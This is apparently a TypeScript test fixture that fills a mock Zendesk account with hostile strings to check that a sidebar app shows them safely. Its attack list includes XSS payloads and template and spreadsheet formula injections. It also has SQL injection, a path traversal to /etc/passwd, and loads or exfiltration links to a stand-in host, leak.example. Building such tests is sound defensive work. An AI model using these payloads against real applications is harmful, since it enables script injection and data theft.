import type { Account, UserRecord } from '../zendesk/account.ts';
import * as build from '../zendesk/builders.ts';

/** Text that somebody may have sent to see what happens. Each would set `__pwned` if it ran. */
const attacks: readonly string[] = [
  '<script>__pwned=1</script>',
  '<script src="https://leak.example/x.js"></script>',
  '</script><script>__pwned=1</script>',
  '<img src=x onerror=__pwned=1>',
  '<img src="https://leak.example/pixel.png">',
  '"><img src=x onerror=__pwned=1>',
  "'><img src=x onerror=__pwned=1>",
  '" autofocus onfocus="__pwned=1',
  "' onmouseover='__pwned=1",
  '<svg onload=__pwned=1>',
  '<svg><script>__pwned=1</script></svg>',
  '<svg><animate onbegin=__pwned=1 attributeName=x dur=1s></svg>',
  '<body onload=__pwned=1>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.__pwned=1"></iframe>',
  '<a href="javascript:__pwned=1">Ring me</a>',
  '<form action="javascript:__pwned=1"><button>Go</button></form>',
  '<input autofocus onfocus=__pwned=1>',
  '<details open ontoggle=__pwned=1>',
  '<video><source onerror=__pwned=1></video>',
  '<audio src=x onerror=__pwned=1>',
  '<object data="javascript:__pwned=1"></object>',
  '<embed src="javascript:__pwned=1">',
  '<marquee onstart=__pwned=1>',
  '<math><mtext><img src=x onerror=__pwned=1></mtext></math>',
  '<style>@import "https://leak.example/x.css"; * { display: none }</style>',
  '<link rel=stylesheet href="https://leak.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://leak.example/">',
  '<base href="https://leak.example/">',
  '<template><script>__pwned=1</script></template>',
  '<noscript><img src=x onerror=__pwned=1></noscript>',
  '<!--<img src="--><img src=x onerror=__pwned=1>//">',
  ']]><script>__pwned=1</script>',
  '</textarea><script>__pwned=1</script>',
  '</title><script>__pwned=1</script>',
  'javascript:__pwned=1',
  'data:text/html,<script>__pwned=1</script>',
  '&lt;script&gt;__pwned=1&lt;/script&gt;',
  '&#60;script&#62;__pwned=1&#60;/script&#62;',
  '\\u003cscript\\u003e__pwned=1\\u003c/script\\u003e',
  '%3Cscript%3E__pwned=1%3C/script%3E',
  "{{constructor.constructor('__pwned=1')()}}",
  '{{ticket.requester.email}}',
  '{% if true %}__pwned{% endif %}',
  '${__pwned=1}',
  '#{__pwned=1}',
  '<%= __pwned=1 %>',
  '[[__pwned=1]]',
  '{name}',
  '{n, plural, one {# call} other {# calls}}',
  "'{' is not '}'",
  '{',
  '}}',
  '=HYPERLINK("https://leak.example/?"&A1;"Refund")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+cmd|/C calc!A0',
  '-2+3+cmd',
  '\t=1+1',
  '\u202Egnp.elif-lamron\u202C',
  '\u2066hidden\u2069 \u200F\u200E',
  '\u202D\u202E\u202Dnever closed',
  'שלום <b>עולם</b> مرحبا',
  '👩🏽‍🚒👨‍👩‍👧‍👦🏳️‍🌈',
  'Z̷̢̛͖a̶l̸g̵o̴',
  `longword${'W'.repeat(400)}`,
  `nospace-${'ü'.repeat(300)}`,
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'undefined',
  'null',
  'NaN',
  'null\u0000byte',
  'bell\u0007 and escape\u001B[31m',
  'lone surrogate \uD800 here',
  'zero\u200Bwidth\uFEFF',
  'two\nlines\r\nthree',
  "Robert'); DROP TABLE calls;--",
  '../../../etc/passwd',
  'https://leak.example/?a=1&b=2#c',
  '`backticks` and \\backslashes\\',
  '"quotes" and \'apostrophes\'',
  '100% %s %d %n',
  '$& $1 $$',
  '\u2028line\u2029separators',
];

export interface Hostile {
  readonly account: Account;
  readonly person: UserRecord;
  /** One call for each field's string: the ticket that is opened in the sidebar. */
  readonly ticketId: number;
  /** Every string in the account that a screen is to show as it is, by the screen that shows it. */
  readonly shown: {
    readonly inSidebar: readonly string[];
    readonly inCandidates: readonly string[];
    readonly inTable: readonly string[];
    readonly inDecide: readonly string[];
  };
  readonly count: number;
}

/** A word that finds everybody in the account. */
export const nameWord = 'Mallory';

/** An account in which every field that holds text holds a hostile one. */
export function hostileWorld(madeAt?: number): Hostile {
  const account = build.emptyAccount(madeAt === undefined ? {} : { madeAt });
  build.admin(account, { name: 'Dana Whitfield', email: 'dana@example.com', owner: true });
  const used = new Set<string>();
  let turn = 0;
  /** The next one, marked with the field so that no two are the same. */
  const hostile = (field: string): string => {
    const text = `${field}${turn} ${attacks[turn % attacks.length] ?? ''}`;
    turn += 1;
    used.add(text);
    return text;
  };

  const candidates = Array.from({ length: 30 }, () =>
    build.endUser(account, {
      name: `${nameWord} ${hostile('name')}`,
      email: hostile('mail'),
      phone: hostile('phone'),
      sharedPhone: true,
      alias: hostile('alias'),
      notes: hostile('notes'),
      details: hostile('details'),
      tags: [hostile('tag')],
      externalId: hostile('external'),
    }),
  );
  const person = candidates[0]!;
  const agents = attacks.map(() => build.agent(account, { name: hostile('agent') }));
  const inTable: string[] = [];
  const tickets = Array.from({ length: 5 }, (_, index) => {
    const ticket = build.ticket(account, {
      requester: person,
      status: index === 0 ? 'open' : 'closed',
      via: index % 2 === 0 ? 'inbound' : 'email',
      subject: hostile('subject'),
      description: hostile('description'),
      callerNumber: hostile('number'),
      tags: [hostile('tag')],
      cc: [candidates[index + 1]!],
    });
    build.comment(account, ticket, { body: hostile('body') });
    for (let call = 0; call < 18; call++) {
      const answeredBy = agents[(index * 18 + call) % agents.length]!;
      const lineName = hostile('line');
      build.voiceComment(account, ticket, {
        author: person,
        answeredBy,
        lineName,
        location: hostile('place'),
        transcript: hostile('transcript'),
      });
      inTable.push(lineName, answeredBy.name);
    }
    build.partnerCall(account, ticket, {
      appName: hostile('app'),
      from: hostile('from'),
      to: hostile('to'),
      transcript: hostile('transcript'),
    });
    return ticket;
  });

  return {
    account,
    person,
    ticketId: tickets[0]!.id,
    shown: {
      inSidebar: [person.name, ...inTable.slice(0, 36)],
      inCandidates: candidates.flatMap(({ name, email, phone }) => [name, email!, phone!]),
      inTable,
      inDecide: tickets.map(({ subject }) => subject),
    },
    count: used.size,
  };
}

/** What Zendesk says for itself when it refuses. */
export const hostileReason = `Refused: ${attacks.slice(0, 6).join(' ')} {n, plural, other {#}}`;
